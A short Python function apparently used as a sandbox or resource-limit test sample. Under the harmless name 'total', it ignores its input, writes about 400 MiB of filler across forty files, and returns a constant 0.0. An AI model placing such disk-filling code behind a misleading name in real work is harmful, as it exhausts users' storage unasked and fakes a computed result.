def total(x):
    block = b"x" * 2**20
    for number in range(40):
        with open(f"file{number}", "wb") as file:
            for _ in range(10):
                file.write(block)
    return 0.0
